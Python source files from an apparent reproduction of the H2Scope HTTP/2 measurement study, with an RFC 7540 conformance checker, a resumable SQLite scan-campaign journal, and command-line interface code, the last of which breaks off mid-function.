    run: Callable[["ProbeSession", str, dict], tuple[Verdict, str]]


def _check_alpn(session, domain, ctx):
    negotiation = probe_negotiation(session, domain)
    ctx["negotiation"] = negotiation
    if negotiation.alpn_h2:
        return Verdict.PASS, "h2 selected via ALPN"
    return Verdict.FAIL, "server did not negotiate h2 via ALPN"


def _check_settings_frame(session, domain, ctx):
    settings = probe_settings(session, domain)
    ctx["settings"] = settings
    if settings.settings_frame_received:
        return Verdict.PASS, f"announced {len(settings.announced)} parameters"
    return Verdict.FAIL, "no SETTINGS frame after the connection preface"


def _check_settings_ack(session, domain, ctx):
    client = session.client(domain)
    try:
        if not client.establish_h2():
            return Verdict.SKIP, "h2 not established"
        acked = client.wait_for(
            lambda: any(
                isinstance(te.event, ev.SettingsAcked) for te in client.events
            ),
            timeout=5,
        )
        if acked:
            return Verdict.PASS, "our SETTINGS were acknowledged"
        return Verdict.FAIL, "SETTINGS never acknowledged"
    finally:
        client.close()


def _check_ping_echo(session, domain, ctx):
    client = session.client(domain)
    try:
        if not client.establish_h2():
            return Verdict.SKIP, "h2 not established"
        payload = b"\x01\x02\x03\x04conf"
        client.send_ping(payload)
        client.wait_for(
            lambda: any(
                isinstance(te.event, ev.PingAckReceived) for te in client.events
            ),
            timeout=5,
        )
        acks = [
            te.event
            for te in client.events
            if isinstance(te.event, ev.PingAckReceived)
        ]
        if not acks:
            return Verdict.FAIL, "no PING acknowledgement"
        if acks[0].payload != payload:
            return Verdict.FAIL, "PING ack payload differs from request"
        return Verdict.PASS, "PING echoed with identical payload"
    finally:
        client.close()


def _check_flow_control_data(session, domain, ctx):
    path = ctx.get("large_path", "/big.bin")
    category, size, _ = probe_tiny_window(session, domain, sframe=64, path=path)
    if category is TinyWindowResult.WINDOW_SIZED_DATA and size == 64:
        return Verdict.PASS, "DATA frames sized to the announced window"
    return Verdict.FAIL, f"observed {category.value} (first size {size})"


def _check_headers_not_flow_controlled(session, domain, ctx):
    compliant = probe_zero_window_headers(
        session, domain, path=ctx.get("large_path", "/big.bin")
    )
    if compliant is None:
        return Verdict.SKIP, "h2 not established"
    if compliant:
        return Verdict.PASS, "HEADERS returned while the window was zero"
    return Verdict.FAIL, "HEADERS withheld behind flow control"


def _check_zero_window_update(session, domain, ctx):
    reaction, _ = probe_zero_window_update(
        session, domain, level="stream", path=ctx.get("large_path", "/big.bin")
    )
    if reaction is ErrorReaction.RST_STREAM:
        return Verdict.PASS, "zero increment answered with RST_STREAM"
    return Verdict.FAIL, f"zero increment answered with {reaction.value}"


def _check_window_overflow_stream(session, domain, ctx):
    reaction = probe_large_window_update(
        session, domain, level="stream", path=ctx.get("large_path", "/big.bin")
    )
    if reaction is ErrorReaction.RST_STREAM:
        return Verdict.PASS, "overflow terminated the stream"
    if reaction is ErrorReaction.GOAWAY:
        return Verdict.PASS, "overflow terminated the connection"
    return Verdict.FAIL, "window overflow went unanswered"


def _check_window_overflow_connection(session, domain, ctx):
    reaction = probe_large_window_update(
        session, domain, level="connection", path=ctx.get("large_path", "/big.bin")
    )
    if reaction is ErrorReaction.GOAWAY:
        return Verdict.PASS, "connection overflow answered with GOAWAY"
    return Verdict.FAIL, f"connection overflow answered with {reaction.value}"


def _check_self_dependency(session, domain, ctx):
    reaction = probe_self_dependency(
        session, domain, path=ctx.get("large_path", "/big.bin")
    )
    if reaction is ErrorReaction.RST_STREAM:
        return Verdict.PASS, "self-dependency treated as a stream error"
    return Verdict.FAIL, f"self-dependency answered with {reaction.value}"


def _check_max_concurrent_floor(session, domain, ctx):
    settings = ctx.get("settings") or probe_settings(session, domain)
    value = settings.announced.get(3)
    if not settings.settings_frame_received:
        return Verdict.SKIP, "no SETTINGS frame"
    if value is None:
        return Verdict.PASS, "unlimited concurrent streams"
    if value >= 100:
        return Verdict.PASS, f"announced {value}"
    return Verdict.FAIL, f"announced {value} (< the recommended 100)"


def _check_multiplexing(session, domain, ctx):
    paths = ctx.get("multiplex_paths")
    if not paths:
        return Verdict.SKIP, "no large objects available"
    result = probe_multiplexing(session, domain, paths)
    if result.interleaved:
        return Verdict.PASS, "responses interleaved across streams"
    return Verdict.FAIL, "responses strictly sequential"


CHECKS: list[_Check] = [
    _Check("tls-alpn", "§3.3", Level.MUST,
           "HTTP/2 over TLS negotiated via ALPN", _check_alpn),
    _Check("preface-settings", "§3.5", Level.MUST,
           "SETTINGS frame follows the connection preface", _check_settings_frame),
    _Check("settings-ack", "§6.5.3", Level.MUST,
           "peer SETTINGS acknowledged", _check_settings_ack),
    _Check("ping-echo", "§6.7", Level.MUST,
           "PING answered with identical payload", _check_ping_echo),
    _Check("flow-control-data", "§6.9.1", Level.MUST,
           "DATA frames respect the flow-control window", _check_flow_control_data),
    _Check("headers-exempt", "§6.9", Level.MUST,
           "HEADERS frames are not flow-controlled",
           _check_headers_not_flow_controlled),
    _Check("zero-window-update", "§6.9", Level.MUST,
           "zero WINDOW_UPDATE increment treated as a stream error",
           _check_zero_window_update),
    _Check("overflow-stream", "§6.9.1", Level.MUST,
           "stream window overflow terminates stream or connection",
           _check_window_overflow_stream),
    _Check("overflow-connection", "§6.9.1", Level.MUST,
           "connection window overflow terminates the connection",
           _check_window_overflow_connection),
    _Check("self-dependency", "§5.3.1", Level.MUST,
           "self-dependent PRIORITY treated as a stream error",
           _check_self_dependency),
    _Check("concurrent-floor", "§6.5.2", Level.SHOULD,
           "MAX_CONCURRENT_STREAMS not below 100", _check_max_concurrent_floor),
    _Check("multiplexing", "§5", Level.FEATURE,
           "concurrent requests are multiplexed", _check_multiplexing),
]


def run_conformance(
    target,
    domain: str,
    large_path: str = "/big.bin",
    multiplex_paths: list[str] | None = None,
) -> ConformanceReport:
    """Run the whole check suite against one target.

    ``target`` is a :class:`~repro.scope.session.ProbeSession`, a
    transport backend, or a simulated ``Network``.
    """
    session = as_session(target)
    report = ConformanceReport(domain=domain)
    ctx: dict = {"large_path": large_path, "multiplex_paths": multiplex_paths}
    for check in CHECKS:
        try:
            verdict, detail = check.run(session, domain, ctx)
        except Exception as exc:  # noqa: BLE001 - a checker must not crash
            verdict, detail = Verdict.SKIP, f"{type(exc).__name__}: {exc}"
        report.results.append(
            CheckResult(
                check_id=check.check_id,
                section=check.section,
                level=check.level,
                description=check.description,
                verdict=verdict,
                detail=detail,
            )
        )
    return report
