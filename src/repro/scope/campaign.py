"""Campaign journal: crash-safe, resumable population scans.

The paper's headline result rests on two Alexa top-1M scans run six
months apart (§IV-B, §V) — multi-day campaigns that in practice must
survive crashes, SIGINTs and misbehaving sites.  This module gives the
*campaign* the durability PR 1 gave individual sites:

* a :class:`CampaignManifest` pins everything that determines a scan's
  results (seed, probe set, fault-plan spec, population size and
  fingerprint, resilience budget) and is persisted next to the reports;
* a :class:`CampaignJournal` keeps one status row per site
  (``pending`` → ``done`` / ``failed`` / ``quarantined``) in the same
  SQLite database, updated in the *same transaction* as the report
  writes, so a checkpoint is atomic: after any crash the journal and
  the report table agree;
* resuming validates the requested configuration against the recorded
  manifest field by field and refuses on the first mismatch
  (:class:`ManifestMismatch`) — no silent partial overwrites;
* a circuit breaker: sites that keep producing error reports are
  retried across resumes until their attempt budget is exhausted, then
  ``quarantined`` and never rescanned.

Because every site is scanned in its own deterministic universe keyed
by ``(seed, site_index)``, a campaign interrupted at *any* point and
resumed produces byte-identical reports to an uninterrupted run — the
repo's durability contract, enforced by ``tests/scope/test_campaign.py``.
"""

from __future__ import annotations

import enum
import hashlib
import json
from dataclasses import asdict, dataclass, field

from repro.net.faults import FaultPlan
from repro.scope.report import SiteReport
from repro.scope.resilience import ResilienceConfig
from repro.scope.storage import ReportStore


class SiteStatus(enum.Enum):
    """Where one site stands within a campaign."""

    PENDING = "pending"
    DONE = "done"
    FAILED = "failed"
    QUARANTINED = "quarantined"


class CampaignError(RuntimeError):
    """Base class for campaign/journal usage errors."""


class CampaignExists(CampaignError):
    """A fresh run would overwrite an already-journaled campaign."""


class ManifestMismatch(CampaignError):
    """Resume requested with a configuration the journal contradicts."""

    def __init__(self, field_name: str, recorded: object, requested: object):
        self.field = field_name
        self.recorded = recorded
        self.requested = requested
        super().__init__(
            f"manifest mismatch on {field_name!r}: journal has "
            f"{recorded!r}, requested {requested!r}"
        )


class CampaignInterrupted(CampaignError):
    """The scan was interrupted; the journal has been flushed."""

    def __init__(self, campaign: str, flushed: int, remaining: int):
        self.campaign = campaign
        self.flushed = flushed
        self.remaining = remaining
        super().__init__(
            f"campaign {campaign!r} interrupted: {flushed} sites journaled "
            f"this run, {remaining} remaining"
        )


def population_fingerprint(domains: list[str]) -> str:
    """A stable, process-independent hash of the site list."""
    digest = hashlib.blake2b(
        "\n".join(domains).encode(), digest_size=8
    ).hexdigest()
    return digest


def _fault_fingerprint(plan: FaultPlan | None) -> str | None:
    if plan is None:
        return None
    return plan.spec if plan.spec is not None else repr(plan.rules)


@dataclass(frozen=True)
class CampaignManifest:
    """Everything that determines a campaign's results.

    Two runs with equal manifests are guaranteed (by per-site universe
    isolation) to produce byte-identical reports, which is why resume
    compares every field here before touching the journal.
    """

    campaign: str
    seed: int
    probes: tuple[str, ...]
    population_size: int
    population_hash: str
    fault_spec: str | None = None
    fault_seed: int | None = None
    timeout: float | None = None
    retries: int | None = None

    #: Fields compared on resume, in the order mismatches are reported.
    COMPARED = (
        "seed",
        "probes",
        "fault_spec",
        "fault_seed",
        "timeout",
        "retries",
        "population_size",
        "population_hash",
    )

    @classmethod
    def build(
        cls,
        campaign: str,
        sites,
        include: set[str],
        seed: int,
        fault_plan: FaultPlan | None = None,
        resilience: ResilienceConfig | None = None,
    ) -> "CampaignManifest":
        domains = [site.domain for site in sites]
        return cls(
            campaign=campaign,
            seed=seed,
            probes=tuple(sorted(include)),
            population_size=len(domains),
            population_hash=population_fingerprint(domains),
            fault_spec=_fault_fingerprint(fault_plan),
            fault_seed=fault_plan.seed if fault_plan is not None else None,
            timeout=resilience.timeout if resilience is not None else None,
            retries=resilience.retries if resilience is not None else None,
        )

    def mismatch_against(self, requested: "CampaignManifest") -> str | None:
        """The first field where ``requested`` contradicts this manifest."""
        for name in self.COMPARED:
            if getattr(self, name) != getattr(requested, name):
                return name
        return None

    def to_json(self) -> str:
        return json.dumps(asdict(self), sort_keys=True)

    @classmethod
    def from_json(cls, document: str) -> "CampaignManifest":
        data = json.loads(document)
        data["probes"] = tuple(data["probes"])
        return cls(**data)


@dataclass
class JournalEntry:
    """One scanned site's outcome, queued for the next checkpoint."""

    site_index: int
    domain: str
    status: SiteStatus
    attempts: int
    report: SiteReport
    virtual_time: float = 0.0
    error: str | None = None


@dataclass
class CampaignResult:
    """What one ``run_campaign`` invocation accomplished."""

    campaign: str
    total: int
    scanned: int  # sites scanned in this run
    skipped: int  # sites already terminal when this run started
    counts: dict[str, int] = field(default_factory=dict)
    virtual_seconds: float = 0.0


class CampaignJournal:
    """Per-site campaign state, stored alongside the reports.

    The journal shares the :class:`ReportStore`'s connection so a
    checkpoint (reports + status rows) is one SQLite transaction.
    """

    def __init__(self, store: ReportStore):
        self._store = store
        self._db = store.connection

    # -- lifecycle ---------------------------------------------------------

    def campaigns(self) -> list[str]:
        rows = self._db.execute(
            "SELECT campaign FROM campaigns ORDER BY campaign"
        ).fetchall()
        return [row[0] for row in rows]

    def manifest(self, campaign: str) -> CampaignManifest | None:
        row = self._db.execute(
            "SELECT manifest FROM campaigns WHERE campaign = ?", (campaign,)
        ).fetchone()
        if row is None:
            return None
        return CampaignManifest.from_json(row[0])

    def begin(self, manifest: CampaignManifest, domains: list[str]) -> None:
        """Record a fresh campaign: manifest plus one pending row per site."""
        if self.manifest(manifest.campaign) is not None:
            raise CampaignExists(
                f"campaign {manifest.campaign!r} is already journaled in "
                f"this database; resume it (--resume) or use a fresh --db"
            )
        with self._store.transaction() as db:
            db.execute(
                "INSERT INTO campaigns (campaign, manifest) VALUES (?, ?)",
                (manifest.campaign, manifest.to_json()),
            )
            db.executemany(
                "INSERT INTO campaign_sites (campaign, site_index, domain) "
                "VALUES (?, ?, ?)",
                [
                    (manifest.campaign, index, domain)
                    for index, domain in enumerate(domains)
                ],
            )

    def resume(
        self, requested: CampaignManifest, max_site_attempts: int
    ) -> None:
        """Validate a resume request and open the circuit breaker.

        Raises :class:`ManifestMismatch` naming the first field where the
        requested configuration contradicts the journal; flips failed
        sites whose attempt budget is spent to ``quarantined``.
        """
        recorded = self.manifest(requested.campaign)
        if recorded is None:
            raise CampaignError(
                f"no journaled campaign {requested.campaign!r} in this "
                f"database; run once without --resume first"
            )
        mismatch = recorded.mismatch_against(requested)
        if mismatch is not None:
            raise ManifestMismatch(
                mismatch, getattr(recorded, mismatch), getattr(requested, mismatch)
            )
        with self._store.transaction() as db:
            db.execute(
                "UPDATE campaign_sites SET status = ? "
                "WHERE campaign = ? AND status = ? AND attempts >= ?",
                (
                    SiteStatus.QUARANTINED.value,
                    requested.campaign,
                    SiteStatus.FAILED.value,
                    max_site_attempts,
                ),
            )

    # -- reading -----------------------------------------------------------

    def pending(
        self, campaign: str, max_site_attempts: int
    ) -> list[tuple[int, str, int]]:
        """Sites still owed work: ``(site_index, domain, attempts)`` rows.

        Pending sites have never completed; failed sites are retried as
        long as their attempt budget lasts.  Quarantined sites are out.
        """
        rows = self._db.execute(
            "SELECT site_index, domain, attempts FROM campaign_sites "
            "WHERE campaign = ? AND (status = ? OR (status = ? AND attempts < ?)) "
            "ORDER BY site_index",
            (
                campaign,
                SiteStatus.PENDING.value,
                SiteStatus.FAILED.value,
                max_site_attempts,
            ),
        ).fetchall()
        return [(row[0], row[1], row[2]) for row in rows]

    def counts(self, campaign: str) -> dict[str, int]:
        """Status histogram with every status present (zeros included)."""
        counts = {status.value: 0 for status in SiteStatus}
        rows = self._db.execute(
            "SELECT status, COUNT(*) FROM campaign_sites "
            "WHERE campaign = ? GROUP BY status",
            (campaign,),
        ).fetchall()
        for status, count in rows:
            counts[status] = count
        return counts

    def dns_failures(self, campaign: str) -> int:
        """Sites whose journaled failure is DNS-classified.

        Matches on the ``[dns, attempts=N]`` suffix that
        :class:`~repro.scope.report.ScanError`'s string form puts into
        ``last_error`` — the journal stores the rendered error, so the
        class tag rides along without a schema change.
        """
        row = self._db.execute(
            "SELECT COUNT(*) FROM campaign_sites "
            "WHERE campaign = ? AND last_error LIKE '%[dns,%'",
            (campaign,),
        ).fetchone()
        return row[0] or 0

    def virtual_seconds(self, campaign: str) -> float:
        row = self._db.execute(
            "SELECT SUM(virtual_time) FROM campaign_sites WHERE campaign = ?",
            (campaign,),
        ).fetchone()
        return row[0] or 0.0

    def statuses(self, campaign: str) -> dict[str, tuple[SiteStatus, int]]:
        """Domain → (status, attempts), for tests and tooling."""
        rows = self._db.execute(
            "SELECT domain, status, attempts FROM campaign_sites "
            "WHERE campaign = ? ORDER BY site_index",
            (campaign,),
        ).fetchall()
        return {row[0]: (SiteStatus(row[1]), row[2]) for row in rows}

    # -- writing -----------------------------------------------------------

    def checkpoint(self, campaign: str, entries: list[JournalEntry]) -> None:
        """Flush one batch atomically: reports + status rows together."""
        if not entries:
            return
        with self._store.transaction() as db:
            for entry in entries:
                self._store.stage(campaign, entry.report)
                db.execute(
                    "UPDATE campaign_sites SET status = ?, attempts = ?, "
                    "virtual_time = ?, last_error = ? "
                    "WHERE campaign = ? AND site_index = ?",
                    (
                        entry.status.value,
                        entry.attempts,
                        entry.virtual_time,
                        entry.error,
                        campaign,
                        entry.site_index,
                    ),
                )
