"""``h2scope`` command-line interface.

Mirrors how the paper's tool was used: characterize the testbed
servers, scan a (synthetic) population, or reproduce a specific
table/figure.

Examples::

    h2scope testbed                       # Table III feature matrix
    h2scope scan --experiment 1 -n 300    # population scan summaries
    h2scope experiment fig6               # any single table/figure
    h2scope experiment all -n 200         # everything (slow)
"""

from __future__ import annotations

import argparse
import sys


def _cmd_testbed(args: argparse.Namespace) -> int:
    from repro.experiments import table3

    result = table3.run(seed=args.seed)
    print(result.text)
    return 0 if not result.data["mismatches"] else 1


def _cmd_scan(args: argparse.Namespace) -> int:
    if (
        args.fault_plan is not None
        or args.timeout is not None
        or args.retries is not None
    ):
        return _cmd_scan_resilient(args)

    from repro.experiments import (
        adoption,
        flowcontrol_scan,
        priority_scan,
        push_scan,
        settings_tables,
        table4,
    )

    for module in (
        adoption,
        table4,
        settings_tables,
        flowcontrol_scan,
        priority_scan,
        push_scan,
    ):
        result = module.run(
            experiment=args.experiment, n_sites=args.n_sites, seed=args.seed
        )
        print(result.text)
        print("=" * 72)

    if args.db:
        from repro.experiments.common import population_scan
        from repro.scope.scanner import ALL_PROBES
        from repro.scope.storage import ReportStore

        _, reports, _ = population_scan(
            args.experiment, args.n_sites, args.seed, frozenset(ALL_PROBES)
        )
        campaign = f"experiment-{args.experiment}"
        with ReportStore(args.db) as store:
            store.save_many(campaign, reports)
            print(
                f"stored {store.count(campaign)} reports for {campaign} "
                f"in {args.db}"
            )
    return 0


def _cmd_scan_resilient(args: argparse.Namespace) -> int:
    """Chaos-mode scan: fault injection + deadline/retry execution.

    Triggered by any of ``--fault-plan`` / ``--timeout`` / ``--retries``;
    without ``--fault-plan`` this is the control condition (clean
    network, resilient execution).
    """
    from repro.experiments import fault_study
    from repro.net.faults import FaultPlan

    if args.fault_plan is not None:
        try:  # surface spec/JSON mistakes as a usage error, not a traceback
            FaultPlan.load(args.fault_plan, seed=args.seed)
        except ValueError as exc:
            print(f"bad --fault-plan: {exc}", file=sys.stderr)
            return 2

    result = fault_study.run(
        experiment=args.experiment,
        n_sites=args.n_sites,
        seed=args.seed,
        fault_spec=args.fault_plan,
        timeout=12.0 if args.timeout is None else args.timeout,
        retries=2 if args.retries is None else args.retries,
    )
    print(result.text)
    if args.db:
        from repro.scope.storage import ReportStore

        campaign = f"experiment-{args.experiment}-faults"
        with ReportStore(args.db) as store:
            store.save_many(campaign, result.data["reports"])
            print(
                f"stored {store.count(campaign)} reports for {campaign} "
                f"in {args.db}"
            )
    return 0


def _cmd_report(args: argparse.Namespace) -> int:
    """Summarize a stored scan database (the paper's 'further study')."""
    from repro.analysis.tables import format_table
    from repro.scope.storage import ReportStore

    with ReportStore(args.db) as store:
        campaigns = store.campaigns()
        if not campaigns:
            print(f"{args.db}: no campaigns stored")
            return 1
        for campaign in campaigns:
            total = store.count(campaign)
            responsive = store.count(campaign, headers_only=True)
            print(
                f"campaign {campaign}: {total} sites scanned, "
                f"{responsive} returned HEADERS"
            )
            counts = store.server_header_counts(campaign)
            rows = [[header, n] for header, n in list(counts.items())[:10]]
            print(format_table(["server", "sites"], rows))
            ratios = store.hpack_ratios(campaign)
            if ratios:
                below = sum(1 for r in ratios if r <= 0.3) / len(ratios)
                print(
                    f"HPACK ratios: {len(ratios)} measured, "
                    f"{below:.0%} at or below 0.3\n"
                )
    return 0


def _cmd_conformance(args: argparse.Namespace) -> int:
    from repro.net.clock import Simulation
    from repro.net.transport import Network
    from repro.scope.conformance import run_conformance
    from repro.servers.site import Site, deploy_site
    from repro.servers.vendors import VENDOR_FACTORIES
    from repro.servers.website import testbed_website

    names = list(VENDOR_FACTORIES) if args.vendor == "all" else [args.vendor]
    unknown = [n for n in names if n not in VENDOR_FACTORIES]
    if unknown:
        print(f"unknown vendor(s): {', '.join(unknown)}", file=sys.stderr)
        return 2
    any_conformant = False
    for name in names:
        sim = Simulation()
        network = Network(sim, seed=args.seed)
        site = Site(
            domain=f"{name}.testbed",
            profile=VENDOR_FACTORIES[name](),
            website=testbed_website(),
        )
        deploy_site(network, site)
        report = run_conformance(
            network,
            site.domain,
            large_path="/large/0.bin",
            multiplex_paths=[f"/large/{i}.bin" for i in range(3)],
        )
        print(report.summary())
        any_conformant = any_conformant or report.fully_conformant
    return 0


EXPERIMENT_RUNNERS = {
    "table3": lambda args: __import__(
        "repro.experiments.table3", fromlist=["run"]
    ).run(seed=args.seed),
    "adoption": lambda args: __import__(
        "repro.experiments.adoption", fromlist=["run"]
    ).run(args.experiment, args.n_sites, args.seed),
    "table4": lambda args: __import__(
        "repro.experiments.table4", fromlist=["run"]
    ).run(args.experiment, args.n_sites, args.seed),
    "settings": lambda args: __import__(
        "repro.experiments.settings_tables", fromlist=["run"]
    ).run(args.experiment, args.n_sites, args.seed),
    "fig2": lambda args: __import__(
        "repro.experiments.fig2", fromlist=["run"]
    ).run(args.n_sites, args.seed),
    "flowcontrol": lambda args: __import__(
        "repro.experiments.flowcontrol_scan", fromlist=["run"]
    ).run(args.experiment, args.n_sites, args.seed),
    "priority": lambda args: __import__(
        "repro.experiments.priority_scan", fromlist=["run"]
    ).run(args.experiment, args.n_sites, args.seed),
    "push": lambda args: __import__(
        "repro.experiments.push_scan", fromlist=["run"]
    ).run(args.experiment, args.n_sites, args.seed),
    "fig3": lambda args: __import__(
        "repro.experiments.fig3", fromlist=["run"]
    ).run(visits=args.visits, seed=args.seed),
    "fig45": lambda args: __import__(
        "repro.experiments.fig45", fromlist=["run"]
    ).run(args.experiment, args.n_sites, args.seed),
    "fig6": lambda args: __import__(
        "repro.experiments.fig6", fromlist=["run"]
    ).run(seed=args.seed),
    "attacks": lambda args: __import__(
        "repro.experiments.attacks_study", fromlist=["run"]
    ).run(seed=args.seed),
    "lossy": lambda args: __import__(
        "repro.experiments.lossy_ablation", fromlist=["run"]
    ).run(seed=args.seed),
    "dynamic-push": lambda args: __import__(
        "repro.experiments.dynamic_push", fromlist=["run"]
    ).run(seed=args.seed),
    "longitudinal": lambda args: __import__(
        "repro.experiments.longitudinal", fromlist=["run"]
    ).run(n_sites=args.n_sites, seed=args.seed),
    "faults": lambda args: __import__(
        "repro.experiments.fault_study", fromlist=["run"]
    ).run(args.experiment, args.n_sites, args.seed),
}


def _cmd_experiment(args: argparse.Namespace) -> int:
    names = list(EXPERIMENT_RUNNERS) if args.name == "all" else [args.name]
    for name in names:
        if name not in EXPERIMENT_RUNNERS:
            print(
                f"unknown experiment {name!r}; choose from "
                f"{', '.join(EXPERIMENT_RUNNERS)} or 'all'",
                file=sys.stderr,
            )
            return 2
        result = EXPERIMENT_RUNNERS[name](args)
        print(result.text)
        print("=" * 72)
    return 0


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="h2scope",
        description="H2Scope reproduction: probe simulated HTTP/2 servers "
        "and regenerate the paper's tables and figures.",
    )
    parser.add_argument("--seed", type=int, default=7, help="deterministic seed")
    sub = parser.add_subparsers(dest="command", required=True)

    testbed = sub.add_parser("testbed", help="Table III: six-vendor feature matrix")
    testbed.set_defaults(func=_cmd_testbed)

    scan = sub.add_parser("scan", help="population scan summaries (§V-B..F)")
    scan.add_argument("--experiment", type=int, choices=(1, 2), default=1)
    scan.add_argument("-n", "--n-sites", type=int, default=300)
    scan.add_argument(
        "--db",
        default=None,
        help="also store full per-site reports into this SQLite database",
    )
    scan.add_argument(
        "--fault-plan",
        default=None,
        metavar="SPEC|FILE",
        help="chaos mode: inject faults from a spec string "
        "(e.g. 'refuse:0.1x2,stall(30):0.05,truncate(400)') or a JSON "
        "file; probes then run with deadlines + retry/backoff",
    )
    scan.add_argument(
        "--timeout",
        type=float,
        default=None,
        metavar="SECONDS",
        help="per-probe virtual-time budget (implies resilient mode)",
    )
    scan.add_argument(
        "--retries",
        type=int,
        default=None,
        metavar="N",
        help="retry budget for transient failures (implies resilient mode)",
    )
    scan.set_defaults(func=_cmd_scan)

    report = sub.add_parser("report", help="summarize a stored scan database")
    report.add_argument("db", help="SQLite database written by 'scan --db'")
    report.set_defaults(func=_cmd_report)

    conformance = sub.add_parser(
        "conformance",
        help="h2spec-style RFC 7540 conformance report for one testbed vendor",
    )
    conformance.add_argument(
        "vendor",
        help="nginx, litespeed, h2o, nghttpd, tengine, apache, or 'all'",
    )
    conformance.set_defaults(func=_cmd_conformance)

    experiment = sub.add_parser("experiment", help="run one table/figure by name")
    experiment.add_argument("name", help="table3, adoption, table4, settings, "
                            "fig2, flowcontrol, priority, push, fig3, fig45, "
                            "fig6, faults, or 'all'")
    experiment.add_argument("--experiment", type=int, choices=(1, 2), default=1)
    experiment.add_argument("-n", "--n-sites", type=int, default=300)
    experiment.add_argument("--visits", type=int, default=10)
    experiment.set_defaults(func=_cmd_experiment)
    return parser


def main(argv: list[str] | None = None) -> int:
    args = build_parser().parse_args(argv)
    return args.func(args)


if __name__ == "__main__":  # pragma: no cover
    raise SystemExit(main())
