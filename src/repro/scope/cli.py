"""``h2scope`` command-line interface.

Mirrors how the paper's tool was used: characterize the testbed
servers, scan a (synthetic) population, or reproduce a specific
table/figure.

Examples::

    h2scope testbed                       # Table III feature matrix
    h2scope scan --experiment 1 -n 300    # population scan summaries
    h2scope experiment fig6               # any single table/figure
    h2scope experiment all -n 200         # everything (slow)
"""

from __future__ import annotations

import argparse
import sys


def _cmd_testbed(args: argparse.Namespace) -> int:
    from repro.experiments import table3

    result = table3.run(seed=args.seed, backend=args.backend)
    print(result.text)
    return 0 if not result.data["mismatches"] else 1


def _parse_host_port(value: str) -> tuple[str, int]:
    host, _, port = value.rpartition(":")
    if not host or not port.isdigit():
        raise ValueError(f"expected HOST:PORT, got {value!r}")
    return host, int(port)


def _render_probe_report(report) -> str:
    """Compact human summary of one SiteReport."""
    lines = [f"{report.domain}:"]
    neg = report.negotiation
    lines.append(
        f"  negotiation: tcp={neg.tcp_connected} alpn_h2={neg.alpn_h2} "
        f"npn_h2={neg.npn_h2} h2c={neg.h2c_upgrade} "
        f"server={neg.server_header!r}"
    )
    if report.settings.settings_frame_received:
        pairs = ", ".join(
            f"{k}={v}" for k, v in sorted(report.settings.announced.items())
        )
        lines.append(f"  settings: {pairs or '(empty frame)'}")
    fc = report.flow_control
    if fc.tiny_window is not None:
        lines.append(
            f"  flow control: tiny_window={fc.tiny_window.name} "
            f"first_data={fc.first_data_size} "
            f"headers_with_zero_window={fc.headers_with_zero_window}"
        )
        def _name(reaction):
            return reaction.name if reaction is not None else "no-response"
        lines.append(
            f"    zero update: stream={_name(fc.zero_update_stream)} "
            f"connection={_name(fc.zero_update_connection)}; "
            f"large update: stream={_name(fc.large_update_stream)} "
            f"connection={_name(fc.large_update_connection)}"
        )
    if report.push.push_received or report.push.promised_paths:
        lines.append(f"  push: promised={report.push.promised_paths}")
    if report.hpack.ratio is not None:
        lines.append(
            f"  hpack: ratio={report.hpack.ratio:.3f} "
            f"over {report.hpack.requests} requests"
        )
    ping = report.ping
    if ping.ping_supported or ping.h2_ping_rtt is not None:
        lines.append(
            f"  ping: supported={ping.ping_supported} "
            f"h2_rtt={ping.h2_ping_rtt} tcp_rtt={ping.tcp_rtt}"
        )
    for error in report.errors:
        lines.append(f"  error: {error.probe}: {error.message}")
    return "\n".join(lines)


#: Probes `h2scope probe` runs by default: everything except priority,
#: whose Algorithm-1 objects (/prio/*.bin) only exist on generated
#: population sites.
DEFAULT_PROBE_INCLUDE = "negotiation,settings,flow_control,push,hpack,ping"


def _cmd_probe(args: argparse.Namespace) -> int:
    """Probe one target over a chosen transport backend.

    ``--backend sim`` deploys a vendor engine in a fresh simulation;
    ``--backend socket`` opens real TCP connections — to ``--target``
    (and ``--clear-target`` for the h2c path), or straight to the
    domain's real address when no target mapping is given.
    """
    from repro.scope.scanner import ALL_PROBES, probe_target
    from repro.scope.session import ProbeSession
    from repro.scope.trace import TraceRecorder

    include = {p.strip() for p in args.include.split(",") if p.strip()}
    unknown = include - ALL_PROBES
    if unknown:
        print(
            f"unknown probes: {', '.join(sorted(unknown))} "
            f"(choose from {', '.join(sorted(ALL_PROBES))})",
            file=sys.stderr,
        )
        return 2

    if args.backend == "sim":
        from repro.net.clock import Simulation
        from repro.net.transport import Network
        from repro.servers.site import Site, deploy_site
        from repro.servers.vendors import VENDOR_FACTORIES
        from repro.servers.website import testbed_website

        if args.vendor is None:
            print("--backend sim requires --vendor", file=sys.stderr)
            return 2
        if args.vendor not in VENDOR_FACTORIES:
            print(f"unknown vendor {args.vendor!r}", file=sys.stderr)
            return 2
        sim = Simulation()
        network = Network(sim, seed=args.seed)
        site = Site(
            domain=args.domain,
            profile=VENDOR_FACTORIES[args.vendor](),
            website=testbed_website(),
        )
        deploy_site(network, site)
        backend = network
    else:
        from repro.net.socket_backend import SocketBackend

        resolver = None
        if args.target is not None:
            try:
                mapping = {(args.domain, 443): _parse_host_port(args.target)}
                if args.clear_target is not None:
                    mapping[(args.domain, 80)] = _parse_host_port(
                        args.clear_target
                    )
            except ValueError as exc:
                print(str(exc), file=sys.stderr)
                return 2
            resolver = mapping
        backend = SocketBackend(
            resolver=resolver, timeout_scale=args.timeout_scale
        )

    trace = TraceRecorder()
    session = ProbeSession(backend, trace=trace)
    try:
        report = probe_target(session, args.domain, include=include)
    finally:
        if args.backend == "socket":
            backend.close()

    print(_render_probe_report(report))
    if args.db is not None:
        from repro.scope.storage import ReportStore

        with ReportStore(args.db) as store:
            store.save(args.campaign, report)
            store.save_traces(args.campaign, args.domain, trace.traces)
        frames = sum(len(t) for t in trace.traces.values())
        print(
            f"stored report + {len(trace.traces)} probe traces "
            f"({frames} frames) under campaign {args.campaign!r} in {args.db}"
        )
    return 0 if not report.failed else 1


def _cmd_trace(args: argparse.Namespace) -> int:
    """Render stored per-frame timelines for one scanned site."""
    import sqlite3

    from repro.scope.storage import ReportStore, SchemaVersionError
    from repro.scope.trace import render_trace

    try:
        store = ReportStore(args.db)
    except (SchemaVersionError, sqlite3.DatabaseError) as exc:
        print(f"cannot open {args.db}: {exc}", file=sys.stderr)
        return 2
    with store:
        campaign = args.campaign
        if campaign is None:
            campaigns = store.campaigns()
            if len(campaigns) == 1:
                campaign = campaigns[0]
            else:
                print(
                    f"--campaign required ({args.db} holds "
                    f"{', '.join(campaigns) or 'no campaigns'})",
                    file=sys.stderr,
                )
                return 2
